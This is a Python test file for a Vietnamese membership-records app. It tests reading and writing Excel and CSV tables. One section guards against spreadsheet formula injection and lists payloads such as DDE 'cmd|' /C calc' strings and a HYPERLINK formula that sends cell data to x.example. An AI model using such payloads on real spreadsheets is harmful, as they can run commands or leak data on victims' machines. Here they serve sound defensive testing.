"""Real .xlsx workbooks and CSV folders written and read back (tabular layer, no Qt, no DB)."""

from __future__ import annotations

import os
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from khdesk.core.domain import template as tpl
from khdesk.core.errors import InputError
from khdesk.core.io.tabular import read_tables, write_empty_template, write_tables
from khdesk.core.text import forbidden_char_problem, nfc

REPO = Path(__file__).resolve().parents[4]
SHIPPED_TEMPLATE = REPO / "resources" / "template" / "khdesk-mau-nhap-lieu.xlsx"


def full(sheet: tpl.Sheet, **values: object) -> dict:
    """A row with every column of the sheet (None where not given)."""
    row = dict.fromkeys((c.key for c in sheet.columns), None)
    unknown = set(values) - row.keys()
    assert not unknown, unknown
    row.update(values)
    return row


def sample_tables() -> dict[str, list[dict]]:
    return {
        "orgs": [
            full(
                tpl.ORGS,
                code="X01",
                name="Đảng ủy xã Hòa Bình",
                kind="Đảng ủy xã",
                special_area=True,
                villages=12,
            ),
            full(
                tpl.ORGS,
                code="X01-CB01",
                name="Chi bộ thôn Đồng Tâm",
                parent_code="X01",
                kind="Chi bộ thôn",
                is_grassroots_cell=True,
                self_managed=False,
                has_youth_union=True,
                village_head_is_member=False,
            ),
        ],
        "plans": [
            full(tpl.PLANS, org_code="X01", period="2026-2030", target=40, target_youth=20),
            full(tpl.PLANS, org_code="X01-CB01", year=2026, target=3, target_private=0),
        ],
        "members": [
            full(
                tpl.MEMBERS,
                member_code="DV0001",
                full_name="Nguyễn Thị Ánh Tuyết",
                sex="Nữ",
                birth_date=date(1985, 2, 28),
                cccd="001185012345",
                org_code="X01-CB01",
                admitted_on=date(2010, 5, 19),
                official_on=date(2011, 5, 19),
                status="Chính thức",
                ethnicity="Kinh",
                religion="Không",
                home_town="Xã Quỳnh Đôi, huyện Quỳnh Lưu, tỉnh Nghệ An",
                history_no="0042",
                village_head=True,
            ),
            full(
                tpl.MEMBERS,
                full_name="Đặng Văn Ước",
                sex="Nam",
                birth_date=date(2000, 12, 31),
                org_code="X01-CB01",
                admitted_on=date(2025, 1, 1),
                status="Dự bị",
                village_head=False,
            ),
        ],
        "member_records": [
            full(
                tpl.MEMBER_RECORDS,
                member_code="DV0001",
                year=2025,
                months_absent=0,
                months_unpaid=3,
                violated=False,
                declining=True,
            )
        ],
        "ratings": [
            full(
                tpl.RATINGS_SHEET, member_code="DV0001", year=2025, rating="Hoàn thành tốt nhiệm vụ"
            )
        ],
        "private_units": [
            full(
                tpl.PRIVATE_UNITS,
                name="Công ty TNHH Hải Đăng",
                kind="Doanh nghiệp tư nhân",
                org_code="X01",
                workers=120,
                members=2,
                has_party_org=False,
                has_trade_union=True,
            )
        ],
        "candidates": [
            full(
                tpl.CANDIDATES,
                file_code="X01-CB01-0001",
                full_name="Lê Thị Hồng Nhung",
                sex="Nữ",
                birth_date=date(2001, 9, 2),
                cccd="040301000123",
                education="THPT",
                occupation="Giáo viên mầm non",
                sea_fisher=False,
                workplace_kind="Trường tư thục",
                youth_union_member=True,
                org_code="X01-CB01",
                a1_source_on=date(2025, 3, 1),
                a2_cert_on=date(2025, 4, 15),
                a2_cert_no="123/CN-TTCT",
                a6_introducer1="DV0001",
                a6_union_intro="Đoàn",
                a8_cell_meeting_on=date(2025, 9, 10),
                a8_official_members=15,
                a8_votes_for=14,
                notes="=1+2 là ghi chú, không phải công thức",
            )
        ],
        "steps": [
            full(tpl.STEPS, file_code="X01-CB01-0001", step_id="A1", on=date(2025, 3, 1)),
            full(
                tpl.STEPS,
                file_code="X01-CB01-0001",
                step_id="A8",
                on=date(2025, 9, 10),
                doc_no="05-NQ/CB",
                official_members=15,
                votes_for=14,
                result="Thông qua",
                note="Họp lần 1",
            ),
        ],
    }


def assert_round_trip(path: Path) -> None:
    tables = sample_tables()
    write_tables(path, tables)
    result = read_tables(path)
    assert [str(p) for p in result.problems] == []
    assert result.bad_rows == 0
    # Every template sheet comes back, in template order, empty ones included.
    assert list(result.sheets) == [s.key for s in tpl.SHEETS]
    for sheet in tpl.SHEETS:
        assert result.present_columns[sheet.key] == {c.key for c in sheet.columns}
        rows = result.sheets[sheet.key]
        assert [r.values for r in rows] == tables[sheet.key], sheet.key
        assert [r.row for r in rows] == list(range(2, 2 + len(tables[sheet.key])))


def test_xlsx_round_trip(tmp_path: Path) -> None:
    assert_round_trip(tmp_path / "xuat.xlsx")


def test_csv_folder_round_trip(tmp_path: Path) -> None:
    assert_round_trip(tmp_path / "xuat")


def test_xlsx_cells_are_typed_for_excel(tmp_path: Path) -> None:
    path = tmp_path / "xuat.xlsx"
    write_tables(path, sample_tables())
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == [s.name for s in tpl.SHEETS]
    ws = wb["Đảng viên"]
    assert ws.freeze_panes == "A2"
    headers = [c.value for c in ws[1]]
    assert headers[:4] == ["Mã đảng viên", "Họ và tên*", "Giới tính*", "Ngày sinh*"]
    assert all(c.font.b for c in ws[1])
    birth = ws.cell(2, headers.index("Ngày sinh*") + 1)
    assert birth.is_date and birth.number_format == "DD/MM/YYYY"
    cccd = ws.cell(2, headers.index("Số CCCD") + 1)
    assert (cccd.data_type, cccd.value) == ("s", "001185012345")
    assert ws.cell(2, headers.index("Trưởng thôn/Tổ trưởng TDP") + 1).value == "Có"
    assert ws.cell(3, headers.index("Trưởng thôn/Tổ trưởng TDP") + 1).value == "Không"
    assert ws.column_dimensions["B"].width >= len("Nguyễn Thị Ánh Tuyết")
    orgs = wb["Đơn vị"]
    villages = orgs.cell(2, [c.value for c in orgs[1]].index("Số thôn/tổ dân phố") + 1)
    assert (villages.data_type, villages.value) == ("n", 12)
    notes = wb["Quần chúng"]
    cell = notes.cell(2, [c.value for c in notes[1]].index("Ghi chú") + 1)
    assert cell.data_type == "s"  # text, never evaluated as a formula


def test_csv_folder_files(tmp_path: Path) -> None:
    folder = tmp_path / "xuat"
    write_tables(folder, sample_tables())
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{s.name}.csv" for s in tpl.SHEETS)
    raw = (folder / "Đảng viên.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Mã đảng viên,Họ và tên*,Giới tính*,Ngày sinh*,Số CCCD,")
    assert lines[1].startswith("DV0001,Nguyễn Thị Ánh Tuyết,Nữ,28/02/1985,001185012345,")
    assert lines[1].endswith(",0042,Có")


def test_writes_leave_no_temp_files_and_replace(tmp_path: Path) -> None:
    path = tmp_path / "xuat.xlsx"
    write_tables(path, sample_tables())
    write_tables(path, {"members": sample_tables()["members"][:1]})
    assert os.listdir(tmp_path) == ["xuat.xlsx"]
    assert len(read_tables(path).sheets["members"]) == 1
    folder = tmp_path / "csv"
    write_tables(folder, sample_tables())
    write_tables(folder, sample_tables())
    assert len(os.listdir(folder)) == len(tpl.SHEETS)


def test_empty_template(tmp_path: Path) -> None:
    path = tmp_path / "mau.xlsx"
    write_empty_template(path)
    result = read_tables(path)
    assert result.problems == []
    assert result.sheets == {s.key: [] for s in tpl.SHEETS}
    assert result.present_columns == {s.key: {c.key for c in s.columns} for s in tpl.SHEETS}


def test_shipped_template_is_current() -> None:
    result = read_tables(SHIPPED_TEMPLATE)
    assert result.problems == []
    assert result.sheets == {s.key: [] for s in tpl.SHEETS}
    assert result.present_columns == {s.key: {c.key for c in s.columns} for s in tpl.SHEETS}
    wb = openpyxl.load_workbook(SHIPPED_TEMPLATE)
    for sheet in tpl.SHEETS:
        headers = [c.value for c in wb[sheet.name][1]]
        assert headers == [c.header + ("*" if c.required else "") for c in sheet.columns]


def test_unsupported_paths(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="Không tìm thấy"):
        read_tables(tmp_path / "khong-co.xlsx")
    old = tmp_path / "cu.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0")
    with pytest.raises(InputError, match=r"\.xls"):
        read_tables(old)
    broken = tmp_path / "hong.xlsx"
    broken.write_bytes(b"not a zip")
    with pytest.raises(InputError, match="tệp hỏng"):
        read_tables(broken)
    with pytest.raises(InputError, match="không có tệp .csv"):
        read_tables(tmp_path)
    with pytest.raises(InputError):
        write_tables(tmp_path / "xuat.pdf", {})


# --------------------------------------------------------------------------- hand-made inputs


def make_xlsx(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    """A workbook as a user would make it in Excel (normal openpyxl mode, typed cells)."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    wb.save(path)
    return path


MEMBER_HEADER = ["ho va ten *", "GIỚI TÍNH", "Ngày sinh*", "Mã chi bộ", "Ngày vào Đảng", "Số CCCD"]


def problems_of(result) -> list[tuple]:
    return [(p.sheet, p.row, p.column, p.message) for p in result.problems]


def test_xlsx_bad_cells_give_exact_problems(tmp_path: Path) -> None:
    path = make_xlsx(
        tmp_path / "nhap.xlsx",
        {
            "Đảng viên": [
                MEMBER_HEADER,
                ["Nguyễn Văn An", "Nam", datetime(1990, 3, 4), "CB01", "19/05/2015", 1090012345],
                ["Trần Thị Bình", "Nữ", "31/02/1991", "CB01", "2016-01-02", "001191000001"],
                ["Lê Văn Cường", "nam giới", "01/01/1992", "CB01", "02/09/2017", None],
                [None, "nu", "01/01/1993", "CB01", "02/09/2018", None],
                [None, None, None, None, None, None],
                ["  ", "", None, " ", None, None],  # spaces only: blank too
                ["Phạm Thị Dung", "nu", "1/2/1994", "CB02", datetime(2019, 9, 2), "007"],
            ]
        },
    )
    result = read_tables(path)
    assert problems_of(result) == [
        (
            "Đảng viên",
            3,
            "Ngày sinh",
            "Ngày không hợp lệ '31/02/1991' — ngày không có thật (tháng 2 năm 1991 chỉ có 28 ngày)",
        ),
        ("Đảng viên", 4, "Giới tính", "Giá trị không hợp lệ 'nam giới' — cần một trong: Nam, Nữ"),
        ("Đảng viên", 5, "Họ và tên", "Thiếu giá trị bắt buộc"),
    ]
    assert str(result.problems[0]) == (
        "Trang 'Đảng viên', dòng 3, cột 'Ngày sinh': "
        "Ngày không hợp lệ '31/02/1991' — ngày không có thật (tháng 2 năm 1991 chỉ có 28 ngày)"
    )
    assert result.bad_rows == 3
    rows = result.sheets["members"]
    assert [r.row for r in rows] == [2, 8]
    assert rows[0].values == {
        "full_name": "Nguyễn Văn An",
        "sex": "Nam",
        "birth_date": date(1990, 3, 4),
        "org_code": "CB01",
        "admitted_on": date(2015, 5, 19),
        "cccd": "001090012345",  # a number cell that lost its two leading zeros
    }
    assert rows[1].values["sex"] == "Nữ"
    assert rows[1].values["birth_date"] == date(1994, 2, 1)
    assert rows[1].values["cccd"] == "007"
    assert result.present_columns["members"] == {
        "full_name",
        "sex",
        "birth_date",
        "org_code",
        "admitted_on",
        "cccd",
    }


def test_unknown_column_reported_and_ignored(tmp_path: Path) -> None:
    path = make_xlsx(
        tmp_path / "nhap.xlsx",
        {
            "Đảng viên": [
                [*MEMBER_HEADER, "Ghi chú riêng"],
                ["Nguyễn Văn An", "Nam", "01/01/1990", "CB01", "19/05/2015", None, "bí mật"],
            ]
        },
    )
    result = read_tables(path)
    assert problems_of(result) == [
        ("Đảng viên", 1, "Ghi chú riêng", "Cột không có trong mẫu — dữ liệu của cột bị bỏ qua")
    ]
    assert result.bad_rows == 0
    assert len(result.sheets["members"]) == 1
    assert "Ghi chú riêng" not in result.sheets["members"][0].values


def test_missing_required_column_reported_once(tmp_path: Path) -> None:
    header = ["Họ và tên", "Giới tính", "Mã chi bộ", "Ngày vào Đảng"]  # no "Ngày sinh"
    rows = [["Nguyễn Văn An", "Nam", "CB01", "19/05/2015"]] * 3
    result = read_tables(make_xlsx(tmp_path / "nhap.xlsx", {"Đảng viên": [header, *rows]}))
    assert problems_of(result) == [("Đảng viên", 1, "Ngày sinh", "Thiếu cột bắt buộc")]
    assert len(result.sheets["members"]) == 3
    assert "birth_date" not in result.present_columns["members"]
    assert "birth_date" not in result.sheets["members"][0].values


def test_unknown_and_duplicate_sheets(tmp_path: Path) -> None:
    path = make_xlsx(
        tmp_path / "nhap.xlsx",
        {
            "Sheet1": [],  # Excel's empty default sheet: nothing lost, nothing said
            "Danh sách khác": [["Tên", "Tuổi"], ["An", 30]],
            "dang vien": [MEMBER_HEADER, ["An", "Nam", "01/01/1990", "CB01", "19/05/2015"]],
            "Đảng viên": [MEMBER_HEADER, ["Bình", "Nữ", "01/01/1991", "CB01", "19/05/2016"]],
        },
    )
    result = read_tables(path)
    assert [(p.sheet, p.row, p.column) for p in result.problems] == [
        ("Danh sách khác", None, None),
        ("Đảng viên", None, None),
    ]
    assert "không có trong mẫu" in result.problems[0].message
    assert "có hai lần" in result.problems[1].message
    assert [r.values["full_name"] for r in result.sheets["members"]] == ["An"]


def test_title_rows_above_the_header(tmp_path: Path) -> None:
    path = make_xlsx(
        tmp_path / "nhap.xlsx",
        {
            "Kế hoạch": [
                ["KẾ HOẠCH KẾT NẠP ĐẢNG VIÊN"],
                [],
                ["Mã đơn vị*", "Giai đoạn", "Chỉ tiêu kết nạp*"],
                ["X01", "2026 – 2030", 40.0],
                ["X02", "2030-2026", 5],
            ]
        },
    )
    result = read_tables(path)
    assert result.sheets["plans"][0].row == 4
    assert result.sheets["plans"][0].values == {
        "org_code": "X01",
        "period": "2026-2030",
        "target": 40,
    }
    assert [(p.row, p.column) for p in result.problems] == [(5, "Giai đoạn")]


def test_data_under_no_header_is_reported(tmp_path: Path) -> None:
    path = make_xlsx(
        tmp_path / "nhap.xlsx",
        {
            "Xếp loại": [
                ["Mã đảng viên", "Năm", "Xếp loại"],
                ["DV1", 2025, "hoan thanh nhiem vu", "?"],
            ]
        },
    )
    result = read_tables(path)
    assert problems_of(result) == [
        ("Xếp loại", 1, None, "Cột D có dữ liệu nhưng không có tiêu đề — dữ liệu bị bỏ qua")
    ]
    assert result.sheets["ratings"][0].values["rating"] == "Hoàn thành nhiệm vụ"


# --------------------------------------------------------------------------- CSV inputs


def test_single_csv_chosen_by_stem_semicolons_no_bom(tmp_path: Path) -> None:
    path = tmp_path / "dang_vien.csv"
    # Excel in a Vietnamese locale: ';' separators; NFD text from a Mac keyboard.
    path.write_text(
        "Họ và tên*;Giới tính*;Ngày sinh*;Mã chi bộ*;Ngày vào Đảng*;Số CCCD\r\n"
        "Nguye\u0302\u0303n Va\u0306n An;nam;1/2/1990;CB01;2015-05-19;001090012345\r\n"
        ";;;;;\r\n",
        encoding="utf-8",
    )
    result = read_tables(path)
    assert result.problems == []
    (row,) = result.sheets["members"]
    assert row.row == 2
    assert row.values["full_name"] == "Nguyễn Văn An"
    assert row.values["cccd"] == "001090012345"
    assert row.values["birth_date"] == date(1990, 2, 1)


def test_single_csv_by_ascii_key_with_bom(tmp_path: Path) -> None:
    path = tmp_path / "steps.csv"
    path.write_text(
        "Mã hồ sơ,Bước,Ngày,Kết quả\nHS1,chi bo xet ket nap,10/09/2025,khong thong qua\n"
        "HS1,Q7,11/09/2025,\n",
        encoding="utf-8-sig",
    )
    result = read_tables(path)
    assert [r.values for r in result.sheets["steps"]] == [
        {"file_code": "HS1", "step_id": "A8", "on": date(2025, 9, 10), "result": "Không thông qua"}
    ]
    assert problems_of(result)[0][:3] == ("Các bước", 3, "Bước")


def test_single_csv_with_an_unrelated_name_is_recognised_by_headers(tmp_path: Path) -> None:
    path = tmp_path / "danh sach 2025.csv"
    path.write_text(
        "Mã đảng viên,Năm,Xếp loại\nDV1,2025,Hoàn thành tốt nhiệm vụ\n", encoding="utf-8"
    )
    result = read_tables(path)
    assert result.problems == []
    assert result.sheets["ratings"][0].values["rating"] == "Hoàn thành tốt nhiệm vụ"


def test_csv_folder_with_ascii_names_and_an_unknown_file(tmp_path: Path) -> None:
    (tmp_path / "orgs.csv").write_text("Mã đơn vị,Tên đơn vị\nX01,Xã Một\n", encoding="utf-8")
    (tmp_path / "ghi chu.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    (tmp_path / "readme.txt").write_text("không phải csv", encoding="utf-8")
    result = read_tables(tmp_path)
    assert list(result.sheets) == ["orgs"]
    assert result.sheets["orgs"][0].values == {"code": "X01", "name": "Xã Một"}
    assert [(p.sheet, p.row) for p in result.problems] == [("ghi chu.csv", None)]


def test_csv_not_utf8_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "Đơn vị.csv"
    # Excel's plain "CSV" on Windows: the ANSI code page, not UTF-8.
    path.write_bytes("Ma don vi,Ten don vi\nX01,Xã Hòa\n".encode("cp1252"))
    with pytest.raises(InputError, match="UTF-8"):
        read_tables(path)


def test_write_single_csv(tmp_path: Path) -> None:
    path = tmp_path / "ratings.csv"
    rows = sample_tables()["ratings"]
    write_tables(path, {"ratings": rows})
    assert [r.values for r in read_tables(path).sheets["ratings"]] == rows


# --------------------------------------------------------------------------- issue 15, finding 5

# What a spreadsheet program may read as a formula, independently of the code under test:
# =, +, -, @ (and their full-width forms) first, also after TAB, CR, LF or spaces.
_LIVE_START = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
PAYLOADS = [
    '=HYPERLINK("http://x.example/?q="&A1;"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "'=1+1",  # a value that really starts with a quote comes back with it
    "''quoted",
    "'plain quote",
    "- gạch đầu dòng",
]


def _live(text: str) -> bool:
    return text[:1] in _LIVE_START or text.lstrip()[:1] in _LIVE_START


def _payload_tables(values: list[str]) -> dict[str, list[dict]]:
    tables = sample_tables()
    base = tables["candidates"][0]
    tables["candidates"] = [
        {**base, "file_code": f"X01-CB01-{i:04d}", "full_name": v, "notes": v}
        for i, v in enumerate(values, 1)
    ]
    tables["orgs"][1]["name"] = values[0]
    return tables


def _csv_fields(folder: Path) -> list[str]:
    import csv

    out = []
    for path in folder.iterdir():
        with open(path, encoding="utf-8-sig", newline="") as f:
            out += [field for row in csv.reader(f) for field in row]
    return out


def _xlsx_cells(path: Path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_read_back(path: Path, tables: dict[str, list[dict]]) -> None:
    result = read_tables(path)
    assert [str(p) for p in result.problems] == []
    for key in ("orgs", "candidates"):
        assert [r.values for r in result.sheets[key]] == tables[key]


def test_finding_5_csv_export_is_inert(tmp_path: Path) -> None:
    tables = _payload_tables(PAYLOADS)
    folder = tmp_path / "xuat"
    write_tables(folder, tables)
    fields = _csv_fields(folder)
    assert "'=cmd|' /C calc'!A0" in fields
    assert [f for f in fields if _live(f)] == []
    _assert_read_back(folder, tables)
    # A single-sheet CSV is written the same way.
    (tmp_path / "mot").mkdir()
    write_tables(tmp_path / "mot" / "qc.csv", {"candidates": tables["candidates"]})
    assert [f for f in _csv_fields(tmp_path / "mot") if _live(f)] == []


def test_finding_5_xlsx_export_is_inert(tmp_path: Path) -> None:
    import zipfile

    tables = _payload_tables(PAYLOADS)
    path = tmp_path / "xuat.xlsx"
    write_tables(path, tables)
    cells = _xlsx_cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    live = [c for c in cells if isinstance(c.value, str) and _live(c.value)]
    assert len(live) >= 2 * 6 and all(c.data_type == "s" and c.quotePrefix for c in live)
    with zipfile.ZipFile(path) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if "worksheets" in n)
    _assert_read_back(path, tables)


def test_finding_5_csv_export_saved_as_xlsx_reads_back(tmp_path: Path) -> None:
    """A CSV export opened in a spreadsheet program and saved as .xlsx keeps the escaping
    quote as part of the text: the import takes it off there too."""
    import csv

    tables = _payload_tables(PAYLOADS)
    write_tables(tmp_path / "xuat", tables)
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for sheet in tpl.SHEETS:
        ws = wb.create_sheet(sheet.name)
        with open(tmp_path / "xuat" / f"{sheet.name}.csv", encoding="utf-8-sig") as f:
            for row in csv.reader(f):
                ws.append([None if v == "" else v for v in row])
                for cell in ws[ws.max_row]:
                    cell.data_type = "s"  # as text, the way it was shown
    wb.save(tmp_path / "luu-lai.xlsx")
    result = read_tables(tmp_path / "luu-lai.xlsx")
    names = [r.values["full_name"] for r in result.sheets["candidates"]]
    assert names == PAYLOADS


def test_finding_5_texts_with_leading_controls_are_inert(tmp_path: Path) -> None:
    # Not what the import stores, but a bundle may carry a note starting with TAB or LF.
    values = ["\t=1+1", "\r\n@x", " =1+1", "\u3000=1"]
    tables = _payload_tables(values)
    write_tables(tmp_path / "xuat", tables)
    assert [f for f in _csv_fields(tmp_path / "xuat") if _live(f)] == []
    write_tables(tmp_path / "xuat.xlsx", tables)
    assert [c for c in _xlsx_cells(tmp_path / "xuat.xlsx") if c.data_type == "f"] == []


def test_finding_5_report_workbooks_are_inert(tmp_path: Path) -> None:
    """Statistics, screening and annual workbooks all write their rows through add_sheet."""
    from openpyxl import Workbook

    from khdesk.core.reports.stats_export import add_sheet

    wb = Workbook(write_only=True)
    add_sheet(wb, "Cấp xã", [["Mã", "Tên"], *[["X01", p] for p in PAYLOADS], ["X02", 3]], {})
    wb.save(tmp_path / "tk.xlsx")
    cells = _xlsx_cells(tmp_path / "tk.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if c.column == 2][1:] == [*PAYLOADS, 3]


_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("=+-@'\"; ,\t\n\uff1d\uff0b\uff0d\uff20|!") + ["\u0303", "\u00a0"]),
        st.characters(blacklist_categories=("Cs", "Cc")),
    ),
    max_size=12,
)
# A formula's start, a quote, or nothing, before any text.
_START = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", " =", "\t+", "\uff1d", "-'"])
_TEXT = st.builds(lambda start, text: start + text, _START, _TEXT)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts=st.lists(_TEXT, min_size=1, max_size=4))
def test_finding_5_any_exported_text_round_trips_and_is_never_a_formula(tmp_path_factory, texts):
    """Exported text is stored text (NFC, trimmed, no forbidden characters): through CSV and
    xlsx it comes back unchanged, and no written cell is live."""
    values = [v for v in (nfc(t) for t in texts) if v and not forbidden_char_problem(v)]
    assume(values)
    tables = _payload_tables(values)
    work = tmp_path_factory.mktemp("prop")
    write_tables(work / "xuat", tables)
    assert [f for f in _csv_fields(work / "xuat") if _live(f)] == []
    _assert_read_back(work / "xuat", tables)
    write_tables(work / "xuat.xlsx", tables)
    cells = _xlsx_cells(work / "xuat.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and _live(c.value))
    _assert_read_back(work / "xuat.xlsx", tables)


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_unlisted_a_hidden_template_sheet_is_not_imported_unseen(tmp_path: Path, state) -> None:
    """A workbook from an unknown sender: the secretary reviews it in Excel, but a sheet of
    the template hidden there (or "very hidden", which Excel's menus cannot even show)
    would add records nobody looked at. It is skipped, and said, like an unknown sheet."""
    path = make_xlsx(
        tmp_path / "nhap.xlsx",
        {
            "Đảng viên": [MEMBER_HEADER, ["An", "Nam", "01/01/1990", "CB01", "19/05/2015"]],
            "Quần chúng": [["Họ và tên", "Giới tính", "Ngày sinh", "Mã chi bộ"]],
        },
    )
    wb = openpyxl.load_workbook(path)
    wb["Đảng viên"].sheet_state = state
    wb.save(path)
    result = read_tables(path)
    assert "members" not in result.sheets or result.sheets["members"] == []
    assert [(p.sheet, p.row, p.column) for p in result.problems] == [("Đảng viên", None, None)]
    assert "ẩn" in result.problems[0].message
